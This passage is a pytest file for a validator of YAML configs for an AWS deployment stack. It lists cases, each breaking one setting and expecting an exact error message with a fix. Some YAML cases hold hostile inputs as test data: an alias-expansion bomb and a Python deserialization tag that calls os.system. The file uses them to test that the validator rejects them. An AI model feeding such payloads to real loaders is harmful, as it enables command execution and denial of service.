# ruff: noqa: E501 - one case per line reads as a table
"""What AWS, Terraform or jsii would refuse is refused at --check, class by class, with key and fix.

Each case starts from a shipped config, breaks one thing, and expects a problem line naming the
key (``file: key.path: what (got VALUE); fix``) with the given fragments. Every line of every
case must also carry a concrete fix in the project's own words: never Pydantic's wording, a
regular expression or a "see the docs". CONTROLS are configs that must pass: each shipped one,
and equivalent spellings of them.
"""

from __future__ import annotations

import copy
import re
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import yaml

from config import ConfigError, load_config, shipped_environments
from config.yaml_safety import MAX_BYTES

ROOT = Path(__file__).resolve().parent.parent
SHIPPED = {env: yaml.safe_load((ROOT / "config" / f"{env}.yaml").read_text()) for env in shipped_environments()}

#: What no message may contain: Pydantic's phrasing, regular expressions, generic fixes.
FOREIGN = re.compile(
    r"Input should|valid dictionary|instance of|pydantic|value_error|Traceback|"
    r"\^\[|\[\^|\\d|\\s|\{\d+,\d*\}|\(\?|"
    r"see (the )?docs|see README|use one of the values listed|within the allowed range|the expected types"
)


def cert(region: str = "eu-west-1", account: str = "111111111111", partition: str = "aws") -> str:
    return f"arn:{partition}:acm:{region}:{account}:certificate/00000000-0000-4000-8000-000000000001"


def put(data: dict[str, Any], path: str, value: Any) -> dict[str, Any]:
    result = copy.deepcopy(data)
    *parents, leaf = path.split(".")
    node = result
    for key in parents:
        node = node.setdefault(key, {})
    node[leaf] = value
    return result


def drop(data: dict[str, Any], path: str) -> dict[str, Any]:
    result = copy.deepcopy(data)
    *parents, leaf = path.split(".")
    node = result
    for key in parents:
        node = node[key]
    del node[leaf]
    return result


def chain(*steps: tuple[str, Any]) -> Callable[[dict[str, Any]], dict[str, Any]]:
    def apply(data: dict[str, Any]) -> dict[str, Any]:
        for path, value in steps:
            data = drop(data, path) if value is DROP else put(data, path, value)
        return data

    return apply


DROP = object()


@dataclass(frozen=True)
class Case:
    klass: str
    id: str
    #: The key path one problem line must name ("(top level)" for the file itself).
    key: str
    expect: tuple[str, ...]
    change: Callable[[dict[str, Any]], dict[str, Any]] | None = None
    base: str = "dev"
    #: The file's text instead of a change (YAML-level cases).
    raw: bytes | None = None
    #: What the line must not contain (a secret's value).
    hide: tuple[str, ...] = field(default=())


def set_(path: str, value: Any) -> Callable[[dict[str, Any]], dict[str, Any]]:
    return chain((path, value))


def yaml_case(id: str, text: str | bytes, *expect: str) -> Case:
    raw = text.encode() if isinstance(text, str) else text
    return Case("yaml", id, "(top level)", expect, raw=raw)


def schedule(expression: str, timezone: str = "UTC", name: str = "night") -> Callable[[dict[str, Any]], dict[str, Any]]:
    return set_(
        "service.autoscaling.schedules",
        [{"name": name, "schedule": expression, "timezone": timezone, "min_tasks": 0, "max_tasks": 0}],
    )


DEV_YAML = (ROOT / "config" / "dev.yaml").read_text()
BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(8)
)

# fmt: off
CASES: list[Case] = [
    # --- YAML itself -------------------------------------------------------------------------
    yaml_case("alias bomb", BOMB, "expands to more than 10,000 values once its aliases are resolved", "fewer aliases"),
    yaml_case("alias bomb inside a config", DEV_YAML + "x-bomb:\n" + "".join(f"  {line}\n" for line in BOMB.splitlines()), "expands to more than"),
    yaml_case("recursive alias", "project: &p [*p]\n", "refers to a node that contains it", "copy the values"),
    yaml_case("undefined alias", "project: *nothing\n", "found undefined alias", "define the anchor"),
    yaml_case("duplicate anchor", "a: &x 1\nb: &x 2\n", "found duplicate anchor 'x'", "its own name"),
    yaml_case("deep list nesting", "project: " + "[" * 200 + "]" * 200 + "\n", "nests lists or mappings more than 32", "flatten it"),
    yaml_case("deep mapping nesting", "".join(f"{'  ' * i}k{i}:\n" for i in range(40)) + "  " * 40 + "v: 1\n", "more than 32 levels deep"),
    yaml_case("unclosed brackets", "[" * 100_000, "more than 32 levels deep"),
    yaml_case("list as a key", "? [a, b]\n: 1\n", "has a list as a key at line 1", "keys are names"),
    yaml_case("mapping as a key", "? {a: 1}\n: 1\n", "has a mapping as a key", "keys are names"),
    yaml_case("number as a key", "1: one\n", "has the key '1' at line 1, column 1, which YAML reads as a number", "quote it: '1':"),
    yaml_case("on as a key", "on: push\n", "which YAML reads as the boolean true", "quote it: 'on':"),
    yaml_case("yes as a key", "project: x\nyes: 1\n", "YAML reads as the boolean true", "quote it: 'yes':"),
    yaml_case("null as a key", "~: 1\n", "which YAML reads as null", "quote it"),
    yaml_case("date as a key", "2024-01-01: x\n", "which YAML reads as a date", "quote it"),
    yaml_case("python object tag", "project: !!python/object:os.system x\n", "uses the YAML tag !!python/object:os.system", "remove the tag"),
    yaml_case("python apply tag", "project: !!python/object/apply:os.system ['id']\n", "!!python/object/apply:os.system", "remove the tag"),
    yaml_case("python name tag", "project: !!python/name:os.system\n", "!!python/name:os.system", "remove the tag"),
    yaml_case("binary tag", "project: !!binary aGVsbG8=\n", "uses the YAML tag !!binary", "remove the tag"),
    yaml_case("set tag", "tags: !!set {a, b}\n", "uses the YAML tag !!set", "remove the tag"),
    yaml_case("omap tag", "tags: !!omap [a: 1]\n", "uses the YAML tag !!omap", "remove the tag"),
    yaml_case("timestamp tag", "project: !!timestamp 2024-01-01\n", "uses the YAML tag !!timestamp", "remove the tag"),
    yaml_case("custom tag", "project: !Ref shop\n", "uses the YAML tag !Ref", "remove the tag"),
    yaml_case("latin-1 byte", b"project: caf\xe9\n", "is not UTF-8 text: byte 0xe9 at line 1, column 13", "save the file as UTF-8"),
    yaml_case("UTF-16 file", "project: shop\n".encode("utf-16"), "is not UTF-8 text", "save the file as UTF-8"),
    yaml_case("NUL character", "project: sh\x00op\n", "contains the control character U+0000 at line 1, column 12", "remove it"),
    yaml_case("bell character", "project: \x07\n", "contains the control character U+0007", "remove it"),
    yaml_case("file too large", "# " + "x" * MAX_BYTES + "\n", "bytes, over the 262,144 a config may have", "a few kilobytes"),
    yaml_case("integer of 5000 digits", "project: " + "9" * 5000 + "\n", "holds a value YAML cannot convert", "shorten the number or quote it"),
    yaml_case("two documents", "project: a\n---\nproject: b\n", "holds more than one YAML document", "keep one"),
    yaml_case("nested duplicate key", "networking:\n  az_count: 2\n  az_count: 3\n", "has the key 'az_count' twice", "keep only one"),
    yaml_case("merged number key", "x: {<<: {1: a}}\n", "merges the key 1", "quote it: '1':"),
    yaml_case("tab indentation", "networking:\n\taz_count: 2\n", "is not valid YAML at line 2", "check indentation"),
    yaml_case("unterminated quote", "project: 'shop\n", "is not valid YAML", "fix the YAML syntax"),
    yaml_case("a folder", b"", "the file is empty"),
    # --- two constructs sharing a name ------------------------------------------------------
    Case("duplicates", "ingress CIDR twice", "load_balancer.ingress_cidrs.1", ("repeats the CIDR at index 0 ('203.0.113.0/24')", "remove it"), set_("load_balancer.ingress_cidrs", ["203.0.113.0/24", "203.0.113.0/24"]),),
    Case("duplicates", "world twice", "load_balancer.ingress_cidrs.2", ("repeats the CIDR at index 0 ('0.0.0.0/0')",), set_("load_balancer.ingress_cidrs", ["0.0.0.0/0", "198.51.100.0/24", "0.0.0.0/0"]),),
    Case("duplicates", "service egress CIDR twice", "service.https_egress_cidrs.1", ("repeats the CIDR at index 0 ('203.0.113.0/24')", "remove it"), set_("service.https_egress_cidrs", ["203.0.113.0/24", "203.0.113.0/24"]),),
    Case("duplicates", "test ingress CIDR twice", "load_balancer.test_ingress_cidrs.1", ("repeats the CIDR at index 0",), set_("load_balancer.test_ingress_cidrs", ["198.51.100.7/32", "198.51.100.7/32"]),),
    Case("duplicates", "schedule name twice", "service.autoscaling.schedules.1.name", ("repeats the schedule name at index 0 ('night')", "give it a name of its own"), lambda d: put(d, "service.autoscaling.schedules", [d["service"]["autoscaling"]["schedules"][0]] * 2),),
    Case("duplicates", "schedule names differing in case", "service.autoscaling.schedules.1.name", ("differs only in case from the schedule name at index 0 ('night')",), lambda d: put(d, "service.autoscaling.schedules", [d["service"]["autoscaling"]["schedules"][0], {**d["service"]["autoscaling"]["schedules"][1], "name": "Night"}],),),
    Case("duplicates", "subscriber twice", "notifications.email_subscribers.1", ("repeats the address at index 0",), set_("notifications.email_subscribers", ["ops@example.com", "ops@example.com"]),),
    Case("duplicates", "subscribers differing in case", "notifications.email_subscribers.1", ("differs only in case from the address at index 0 ('ops@example.com')",), set_("notifications.email_subscribers", ["ops@example.com", "Ops@Example.com"]),),
    Case("duplicates", "tags differing in case", "tags.owner", ("differs only in case from the tag", "keep one of them"), set_("tags", {"owner": "a", "Owner": "b"}),),
    Case("duplicates", "tag project set by the stack", "tags.project", ("is a tag the stack sets itself (project)", "rename it"), set_("tags", {"project": "x"}),),
    Case("duplicates", "tag Environment set by the stack", "tags.Environment", ("is a tag the stack sets itself (environment)",), set_("tags", {"Environment": "x"}),),
    Case("duplicates", "tag managed-by set by the stack", "tags.managed-by", ("is a tag the stack sets itself (managed-by)",), set_("tags", {"managed-by": "me"}),),
    Case("duplicates", "tag Name set on resources", "tags.Name", ("is a tag the stack sets itself (Name)",), set_("tags", {"Name": "x"}),),
    Case("duplicates", "tag tier set on subnets", "tags.tier", ("is a tag the stack sets itself (tier)",), set_("tags", {"tier": "gold"}),),
    Case("duplicates", "tag colour set on target groups", "tags.colour", ("is a tag the stack sets itself (colour)",), set_("tags", {"colour": "red"}),),
    Case("duplicates", "HTTPS production listener on the redirect port", "load_balancer.prod_listener_port", ("is the HTTP redirect port", "use 443"), set_("load_balancer.prod_listener_port", 80),),
    Case("duplicates", "test listener on the production port", "load_balancer.test_listener_port", ("equals the production listener port",), set_("load_balancer.test_listener_port", 443),),
    Case("duplicates", "test listener on the redirect port", "load_balancer.test_listener_port", ("is the HTTP redirect port",), set_("load_balancer.test_listener_port", 80),),
    Case("duplicates", "explicit ports equal", "load_balancer.test_listener_port", ("equals the production listener port",), chain(("load_balancer.prod_listener_port", 8443), ("load_balancer.test_listener_port", 8443)),),
    Case("duplicates", "PORT set by the stack", "service.environment.PORT", ("is set by the stack or by AWS", "rename it"), set_("service.environment", {"PORT": "9000"}),),
    Case("duplicates", "DB_HOST set by the stack", "service.environment.DB_HOST", ("is set by the stack or by AWS",), set_("service.environment", {"DB_HOST": "db.local"}),),
    Case("duplicates", "DRAIN_SECONDS set by the stack", "service.environment.DRAIN_SECONDS", ("is set by the stack or by AWS",), set_("service.environment", {"DRAIN_SECONDS": "5"}),),
    Case("duplicates", "one subnet in two tiers", "networking.private_subnets.0", ("is the same range as public_subnets[0]",), chain(("networking.public_subnets", ["10.10.0.0/20", "10.10.16.0/20", "10.10.32.0/20"]), ("networking.private_subnets", ["10.10.0.0/20", "10.10.48.0/20", "10.10.64.0/20"]),),),
    Case("duplicates", "one subnet twice in a tier", "networking.public_subnets.1", ("is the same range as public_subnets[0]",), set_("networking.public_subnets", ["10.10.0.0/20", "10.10.0.0/20", "10.10.32.0/20"]),),
    Case("duplicates", "one zone twice", "networking.availability_zones", ("must list 3 distinct zones",), set_("networking.availability_zones", ["eu-west-1a", "eu-west-1a", "eu-west-1b"]),),
    # --- AWS naming rules of every resource the stack names ---------------------------------
    Case("names", "project ends with a hyphen", "project", ("'shop--dev-db', which contains two hyphens in a row", "must never have two hyphens in a row", "e.g. project: shop",), set_("project", "shop-"),),
    Case("names", "project with a double hyphen", "project", ("contains two hyphens in a row", "e.g. project: my-shop"), set_("project", "my--shop"),),
    Case("names", "project starting internal-", "project", ("load balancer name 'internal-shop-dev-alb', which starts with 'internal-'", "must not start with 'internal-'",), set_("project", "internal-shop"),),
    Case("names", "project starting xn--", "project", ("S3 bucket name 'xn--shop-dev-alb-logs-111111111111', which starts with 'xn--', which AWS reserves (likewise S3 bucket name 'xn--shop-dev-artifacts-111111111111')",), set_("project", "xn--shop"),),
    Case("names", "project starting sthree-", "project", ("starts with 'sthree-', which AWS reserves", "must not start with 'sthree-'"), set_("project", "sthree-shop"),),
    Case("names", "project starting amzn-s3-demo-", "project", ("starts with 'amzn-s3-demo-', which AWS reserves",), set_("project", "amzn-s3-demo-x"),),
    Case("names", "load balancer name over 32", "project", ("green target group name 'a-very-long-project-preprod123-green', which is 36 characters long, over AWS's 32", "likewise blue target group name 'a-very-long-project-preprod123-blue', load balancer name 'a-very-long-project-preprod123-alb'", "shorten project or environment by 4 characters",), chain(("project", "a-very-long-project"), ("environment", "preprod123")),),
    Case("names", "green target group is the longest", "project", ("green target group name 'abcdefghijklmnopqrs-preprod12-green', which is 35 characters long", "likewise", "shorten project or environment by 3",), chain(("project", "abcdefghijklmnopqrs"), ("environment", "preprod12")),),
    Case("names", "DR access-log bucket over 63", "project", ("S3 bucket name (in the DR region) 'abcdefghijklmnopqrst-preprod123-alb-logs-111111111111-ap-southeast-2'", "shorten project or environment by 5 characters",), chain(("project", "abcdefghijklmnopqrst"), ("environment", "preprod123"), ("region", "ap-southeast-1"), ("load_balancer.certificate_arn", cert("ap-southeast-1")), ("database.serverless_v2.min_acu", 0.5), ("dr", {"region": "ap-southeast-2", "posture": "pilot_light", "certificate_arn": cert("ap-southeast-2")}),),),
    Case("names", "state bucket like an IP address", "state.bucket", ("'192.168.10.20', which has the form of an IP address", "must not look like an IP address"), set_("state.bucket", "192.168.10.20"),),
    Case("names", "state bucket starting xn--", "state.bucket", ("starts with 'xn--', which AWS reserves",), set_("state.bucket", "xn--state"),),
    Case("names", "state bucket starting sthree-", "state.bucket", ("starts with 'sthree-'",), set_("state.bucket", "sthree-state"),),
    Case("names", "state bucket starting amzn-s3-demo-", "state.bucket", ("starts with 'amzn-s3-demo-'",), set_("state.bucket", "amzn-s3-demo-state"),),
    Case("names", "state bucket ending -s3alias", "state.bucket", ("ends with '-s3alias', which AWS reserves", "must not end with '-s3alias'"), set_("state.bucket", "state-s3alias"),),
    Case("names", "state bucket ending --ol-s3", "state.bucket", ("ends with '--ol-s3'",), set_("state.bucket", "state--ol-s3"),),
    Case("names", "state bucket ending .mrap", "state.bucket", ("ends with '.mrap'",), set_("state.bucket", "state.mrap")),
    Case("names", "state bucket ending --x-s3", "state.bucket", ("ends with '--x-s3'",), set_("state.bucket", "state--x-s3"),),
    Case("names", "state bucket ending --table-s3", "state.bucket", ("ends with '--table-s3'",), set_("state.bucket", "state--table-s3"),),
    Case("names", "state bucket with two dots", "state.bucket", ("contains '..', '.-' or '-.'",), set_("state.bucket", "state..bucket"),),
    Case("names", "state bucket with dot and hyphen", "state.bucket", ("contains '..', '.-' or '-.'",), set_("state.bucket", "state.-bucket"),),
    Case("names", "state bucket in upper case", "state.bucket", ("must be an S3 bucket name", "use 'state-bucket'"), set_("state.bucket", "State-Bucket"),),
    Case("names", "state bucket with an underscore", "state.bucket", ("must be an S3 bucket name", "use 'state-bucket'"), set_("state.bucket", "state_bucket"),),
    Case("names", "state bucket too short", "state.bucket", ("must be an S3 bucket name: 3 to 63",), set_("state.bucket", "ab"),),
    Case("names", "state bucket too long", "state.bucket", ("must be an S3 bucket name: 3 to 63",), set_("state.bucket", "a" * 64),),
    Case("names", "project in upper case", "project", ("must be 2 to 20 lower-case letters", "use 'shop'"), set_("project", "Shop"),),
    Case("names", "project starting with a digit", "project", ("starting with a letter", "use 'shop'"), set_("project", "1shop"),),
    Case("names", "project too long", "project", ("must be 2 to 20", "use 'a-very-very-long-sho'"), set_("project", "a-very-very-long-shop-name"),),
    Case("names", "project with an underscore", "project", ("must be 2 to 20", "use 'my-shop'"), set_("project", "my_shop"),),
    Case("names", "environment with a hyphen", "environment", ("must be 2 to 10 lower-case letters or digits", "use 'preprod'"), set_("environment", "pre-prod"),),
    Case("names", "environment too long", "environment", ("must be 2 to 10",), set_("environment", "integration")),
    Case("names", "container name with a dot", "service.container_name", ("must be 1 to 255 letters, digits, hyphens or underscores", "use 'web-app'"), set_("service.container_name", "web.app"),),
    Case("names", "image tag starting with a dot", "service.initial_image_tag", ("must be a Docker image tag", "use 'latest'"), set_("service.initial_image_tag", ".latest"),),
    Case("names", "schedule name with a space", "service.autoscaling.schedules.0.name", ("must be 1 to 40 letters, digits or hyphens", "use 'late-night'"), schedule("cron(0 19 ? * * *)", name="late night"),),
    Case("names", "reserved database name", "database.database_name", ("is a word PostgreSQL reserves",), set_("database.database_name", "user"),),
    Case("names", "reserved master user", "database.master_username", ("is a role name RDS or PostgreSQL keeps for itself",), set_("database.master_username", "rdsadmin"),),
    Case("names", "master user starting pg_", "database.master_username", ("keeps for itself", "e.g. app_admin"), set_("database.master_username", "pg_owner"),),
    Case("names", "master user too long", "database.master_username", ("must be 1 to 16 lower-case letters",), set_("database.master_username", "a_very_long_admin_name"),),
    # --- regions and zones ------------------------------------------------------------------
    Case("regions", "misspelt region", "region", ("is not an AWS region", "did you mean 'eu-west-1'?"), set_("region", "eu-wset-1"),),
    Case("regions", "region that does not exist", "region", ("is not an AWS region", "did you mean 'eu-west-3'?"), set_("region", "eu-west-9"),),
    Case("regions", "region in upper case", "region", ("is not an AWS region", "did you mean 'eu-west-1'?"), set_("region", "EU-WEST-1"),),
    Case("regions", "availability zone as region", "region", ("is not an AWS region", "did you mean 'eu-west-1'?"), set_("region", "eu-west-1a"),),
    Case("regions", "isolated partition region", "region", ("is not an AWS region", "config/data/regions.json"), set_("region", "us-iso-east-1"),),
    Case("regions", "region name, not code", "region", ("is not an AWS region",), set_("region", "Ireland")),
    Case("regions", "more AZs than eu-west-1 has", "networking.az_count", ("eu-west-1 has 3 availability zones, but networking.az_count is 4", "use 3 or fewer"), set_("networking.az_count", 4),),
    Case("regions", "more AZs than ap-northeast-3 has", "networking.az_count", ("ap-northeast-3 has 3 availability zones",), chain(("region", "ap-northeast-3"), ("load_balancer.certificate_arn", cert("ap-northeast-3")), ("networking.az_count", 5),),),
    Case("regions", "default AZ count in a two-zone region", "region", ("us-west-1 has 2 availability zones, but networking.az_count is 3 (the default)", "set networking.az_count: 2",), chain(("region", "us-west-1"), ("load_balancer.certificate_arn", cert("us-west-1")), ("networking.az_count", DROP)),),
    Case("regions", "zones that differ per account", "region", ("names zones differently in each account", "list networking.availability_zones"), chain(("region", "us-west-1"), ("load_balancer.certificate_arn", cert("us-west-1")), ("networking.az_count", 2)),),
    Case("regions", "zone letter the region lacks", "networking.availability_zones.2", ("is not a zone of region eu-west-1", "use 'eu-west-1c'"), set_("networking.availability_zones", ["eu-west-1a", "eu-west-1b", "eu-west-1d"]),),
    Case("regions", "Tokyo's missing zone b", "networking.availability_zones.1", ("is not a zone of region ap-northeast-1",), chain(("region", "ap-northeast-1"), ("load_balancer.certificate_arn", cert("ap-northeast-1")), ("networking.availability_zones", ["ap-northeast-1a", "ap-northeast-1b", "ap-northeast-1c"]),),),
    Case("regions", "zone of another region", "networking.availability_zones.2", ("is not a zone of region eu-west-1",), set_("networking.availability_zones", ["eu-west-1a", "eu-west-1b", "us-east-1a"]),),
    Case("regions", "fewer zones than AZs", "networking.availability_zones", ("must list 3 distinct zones", "eu-west-1c"), set_("networking.availability_zones", ["eu-west-1a", "eu-west-1b"]),),
    Case("regions", "DR region misspelt", "dr.region", ("is not an AWS region", "did you mean 'eu-central-1'?"), set_("dr", {"region": "eu-centrl-1", "posture": "backup_restore"}),),
    Case("regions", "DR in the primary region", "dr.region", ("is the primary region",), set_("dr", {"region": "eu-west-1", "posture": "backup_restore"}),),
    Case("regions", "DR in China from a commercial region", "dr.region", ("is in partition aws-cn, but the primary region eu-west-1 is in aws", "e.g. eu-central-1"), set_("dr", {"region": "cn-north-1", "posture": "backup_restore"}),),
    Case("regions", "DR in GovCloud from a commercial region", "dr.region", ("is in partition aws-us-gov",), set_("dr", {"region": "us-gov-west-1", "posture": "backup_restore"}),),
    Case("regions", "DR zones of the primary region", "dr.networking.availability_zones.0", ("is not a zone of region eu-central-1",), set_("dr", {"region": "eu-central-1", "posture": "backup_restore", "networking": {"vpc_cidr": "10.100.0.0/16", "availability_zones": ["eu-west-1a", "eu-central-1b", "eu-central-1c"]}},),),
    Case("regions", "DR with more AZs than its region", "dr.networking.az_count", ("eu-central-1 has 3 availability zones, but dr.networking.az_count is 4",), set_("dr", {"region": "eu-central-1", "posture": "backup_restore", "networking": {"vpc_cidr": "10.100.0.0/16", "az_count": 4}},),),
    Case("regions", "state bucket in another partition", "state.region", ("is in partition aws-cn, not the stack's aws",), set_("state.region", "cn-northwest-1"),),
    Case("regions", "state region unknown", "state.region", ("is not an AWS region",), set_("state.region", "eu-north-9")),
    # --- ARNs: region, partition, account ----------------------------------------------------
    Case("arns", "certificate of another region", "load_balancer.certificate_arn", ("is in region us-east-1, but it is used in eu-west-1", "use one created in eu-west-1"), set_("load_balancer.certificate_arn", cert("us-east-1")),),
    Case("arns", "certificate of another account", "load_balancer.certificate_arn", ("belongs to account 999999999999, not the stack's 111111111111",), set_("load_balancer.certificate_arn", cert(account="999999999999")),),
    Case("arns", "certificate of another partition", "load_balancer.certificate_arn", ("is in partition aws-cn, but the stack's region is in aws",), set_("load_balancer.certificate_arn", cert(partition="aws-cn")),),
    Case("arns", "certificate with a short account", "load_balancer.certificate_arn", ("has account 1111, not 12 digits",), set_("load_balancer.certificate_arn", cert(account="1111")),),
    Case("arns", "IAM server certificate", "load_balancer.certificate_arn", ("is not an ACM certificate ARN (it names iam service resource",), set_("load_balancer.certificate_arn", "arn:aws:iam::111111111111:server-certificate/web"),),
    Case("arns", "certificate id only", "load_balancer.certificate_arn", ("is not an ACM certificate ARN", "write it like arn:aws:acm:eu-west-1:111111111111:certificate/"), set_("load_balancer.certificate_arn", "00000000-0000-4000-8000-000000000001"),),
    Case("arns", "certificate ARN in upper case", "load_balancer.certificate_arn", ("is not an ACM certificate ARN",), set_("load_balancer.certificate_arn", cert().upper()),),
    Case("arns", "web ACL of another region", "load_balancer.waf_web_acl_arn", ("is in region us-east-1, but it is used in eu-west-1",), set_("load_balancer.waf_web_acl_arn", "arn:aws:wafv2:us-east-1:111111111111:regional/webacl/acl/00000000-0000-4000-8000-000000000001",),),
    Case("arns", "global (CloudFront) web ACL", "load_balancer.waf_web_acl_arn", ("is not a regional WAFv2 web ACL ARN",), set_("load_balancer.waf_web_acl_arn", "arn:aws:wafv2:us-east-1:111111111111:global/webacl/acl/00000000-0000-4000-8000-000000000001",),),
    Case("arns", "web ACL of another account", "load_balancer.waf_web_acl_arn", ("belongs to account 222222222222",), set_("load_balancer.waf_web_acl_arn", "arn:aws:wafv2:eu-west-1:222222222222:regional/webacl/acl/00000000-0000-4000-8000-000000000001",),),
    Case("arns", "classic WAF ACL", "load_balancer.waf_web_acl_arn", ("is not a regional WAFv2 web ACL ARN",), set_("load_balancer.waf_web_acl_arn", "arn:aws:waf-regional:eu-west-1:111111111111:webacl/00000000-0000-4000-8000-000000000001",),),
    Case("arns", "connection of another region", "pipeline.connection_arn", ("is in region us-east-1, but it is used in eu-west-1",), set_("pipeline.connection_arn", "arn:aws:codeconnections:us-east-1:111111111111:connection/00000000-0000-4000-8000-000000000001",),),
    Case("arns", "connection of another account", "pipeline.connection_arn", ("belongs to account 222222222222",), set_("pipeline.connection_arn", "arn:aws:codestar-connections:eu-west-1:222222222222:connection/00000000-0000-4000-8000-000000000001",),),
    Case("arns", "connection ARN of a host", "pipeline.connection_arn", ("is not a CodeConnections connection ARN",), set_("pipeline.connection_arn", "arn:aws:codeconnections:eu-west-1:111111111111:host/abc-123"),),
    Case("arns", "connection URL instead of ARN", "pipeline.connection_arn", ("is not a CodeConnections connection ARN",), set_("pipeline.connection_arn", "https://gitlab.com/example-group"),),
    Case("arns", "DR certificate of the primary region", "dr.certificate_arn", ("is in region eu-west-1, but it is used in eu-central-1",), chain(("database.serverless_v2.min_acu", 0.5), ("dr", {"region": "eu-central-1", "posture": "pilot_light", "certificate_arn": cert("eu-west-1")}),),),
    Case("arns", "DR without a certificate", "dr.certificate_arn", ("is required: the DR ALB serves HTTPS",), chain(("database.serverless_v2.min_acu", 0.5), ("dr", {"region": "eu-central-1", "posture": "warm_standby"})),),
    Case("arns", "state key of another region", "state.kms_key_id", ("is in region us-east-1, but it is used in eu-west-1",), set_("state.kms_key_id", "arn:aws:kms:us-east-1:111111111111:key/00000000-0000-4000-8000-000000000001"),),
    Case("arns", "state key of another partition", "state.kms_key_id", ("is in partition aws-us-gov",), set_("state.kms_key_id", "arn:aws-us-gov:kms:eu-west-1:111111111111:key/00000000-0000-4000-8000-000000000001"),),
    Case("arns", "state key that is no key", "state.kms_key_id", ("is not a KMS key id, alias or ARN",), set_("state.kms_key_id", "my-key"),),
    Case("arns", "state key ARN of an S3 bucket", "state.kms_key_id", ("is not a KMS key ARN",), set_("state.kms_key_id", "arn:aws:s3:::my-bucket"),),
    # --- network math -----------------------------------------------------------------------
    Case("network", "public range", "networking.vpc_cidr", ("is not a private range (RFC 1918", "e.g. 10.8.0.0/16"), set_("networking.vpc_cidr", "8.8.0.0/16"),),
    Case("network", "shared address space 100.64/10", "networking.vpc_cidr", ("is not a private range",), set_("networking.vpc_cidr", "100.64.0.0/16"),),
    Case("network", "loopback (Python calls it private)", "networking.vpc_cidr", ("is not a private range",), set_("networking.vpc_cidr", "127.0.0.0/16"),),
    Case("network", "link-local (Python calls it private)", "networking.vpc_cidr", ("is not a private range",), set_("networking.vpc_cidr", "169.254.0.0/16"),),
    Case("network", "documentation range (Python calls it private)", "networking.vpc_cidr", ("is not a private range",), set_("networking.vpc_cidr", "192.0.2.0/24"),),
    Case("network", "benchmark range (Python calls it private)", "networking.vpc_cidr", ("is not a private range",), set_("networking.vpc_cidr", "198.18.0.0/16"),),
    Case("network", "just past 172.16/12", "networking.vpc_cidr", ("is not a private range",), set_("networking.vpc_cidr", "172.32.0.0/16"),),
    Case("network", "VPC larger than /16", "networking.vpc_cidr", ("is larger than AWS allows for a VPC (/16 to /24)", "e.g. 10.0.0.0/16"), set_("networking.vpc_cidr", "10.0.0.0/12"),),
    Case("network", "VPC smaller than /24", "networking.vpc_cidr", ("is smaller than AWS allows for a VPC", "e.g. 10.10.0.0/24"), set_("networking.vpc_cidr", "10.10.0.0/26"),),
    Case("network", "VPC with host bits", "networking.vpc_cidr", ("is not an IPv4 CIDR", "use '10.10.0.0/16'"), set_("networking.vpc_cidr", "10.10.1.0/16"),),
    Case("network", "VPC without prefix (a /32)", "networking.vpc_cidr", ("is smaller than AWS allows for a VPC", "e.g. 10.10.0.0/24"), set_("networking.vpc_cidr", "10.10.0.0"),),
    Case("network", "listed subnet outside the VPC", "networking.public_subnets.2", ("is outside vpc_cidr 10.10.0.0/16", "choose a range inside 10.10.0.0/16"), set_("networking.public_subnets", ["10.10.0.0/24", "10.10.1.0/24", "10.11.0.0/24"]),),
    Case("network", "listed subnet smaller than /28", "networking.private_subnets.0", ("is a /29, but AWS subnets are /16 to /28", "use a /28 such as 10.10.100.0/28"), set_("networking.private_subnets", ["10.10.100.0/29", "10.10.101.0/24", "10.10.102.0/24"]),),
    Case("network", "listed subnet larger than /16", "networking.private_subnets.0", ("is a /15", "/16 to /28"), chain(("networking.vpc_cidr", "10.10.0.0/16"), ("networking.private_subnets", ["10.10.0.0/15", "10.10.101.0/24", "10.10.102.0/24"]),),),
    Case("network", "ALB subnet of /28", "networking.public_subnets.0", ("the load balancer's subnets must be /27 or larger", "use 10.10.0.0/27"), set_("networking.public_subnets", ["10.10.0.0/28", "10.10.1.0/24", "10.10.2.0/24"]),),
    Case("network", "carved ALB subnets of /28", "networking.subnet_prefix_length", ("carves public subnets of /28", "27 or less"), set_("networking.subnet_prefix_length", 28),),
    Case("network", "too few listed subnets", "networking.database_subnets", ("lists 2 subnets, but there must be one per AZ (3", "list exactly 3 CIDRs"), set_("networking.database_subnets", ["10.10.200.0/24", "10.10.201.0/24"]),),
    Case("network", "too many listed subnets", "networking.public_subnets", ("lists 4 subnets",), set_("networking.public_subnets", ["10.10.0.0/24", "10.10.1.0/24", "10.10.2.0/24", "10.10.3.0/24"]),),
    Case("network", "listed subnets overlapping across tiers", "networking.database_subnets.0", ("overlaps public_subnets[0] (10.10.0.0/20)",), chain(("networking.public_subnets", ["10.10.0.0/20", "10.10.16.0/20", "10.10.32.0/20"]), ("networking.database_subnets", ["10.10.1.0/24", "10.10.200.0/24", "10.10.201.0/24"]),),),
    Case("network", "no room: blames the prefix written", "networking.subnet_prefix_length", ("10.10.0.0/24 has no room for 9 subnets of /25",), chain(("networking.vpc_cidr", "10.10.0.0/24"), ("networking.subnet_prefix_length", 25)),),
    Case("network", "no room: blames the VPC, not the default prefix", "networking.vpc_cidr", ("10.10.0.0/22 has no room for 9 subnets of /20", "set subnet_prefix_length"), set_("networking.vpc_cidr", "10.10.0.0/22"),),
    Case("network", "no room beside listed subnets", "networking.subnet_prefix_length", ("has no room beside the listed subnets for 6 subnets of /26",), chain(("networking.vpc_cidr", "10.10.0.0/24"), ("networking.subnet_prefix_length", 26), ("networking.public_subnets", ["10.10.0.0/26", "10.10.0.64/26", "10.10.0.128/26"]),),),
    Case("network", "subnet CIDR with host bits", "networking.public_subnets.0", ("is not an IPv4 CIDR", "use '10.10.0.0/24'"), set_("networking.public_subnets", ["10.10.0.1/24", "10.10.1.0/24", "10.10.2.0/24"]),),
    Case("network", "subnet that is not a CIDR", "networking.public_subnets.1", ("is not an IPv4 CIDR",), set_("networking.public_subnets", ["10.10.0.0/24", "subnet-1", "10.10.2.0/24"]),),
    Case("network", "subnets as one string", "networking.public_subnets", ("is text, not a list", "put it in a list"), set_("networking.public_subnets", "10.10.0.0/24"),),
    Case("network", "ingress CIDR with host bits", "load_balancer.ingress_cidrs.0", ("is not an IPv4 CIDR", "use '203.0.113.0/24'"), set_("load_balancer.ingress_cidrs", ["203.0.113.5/24"]),),
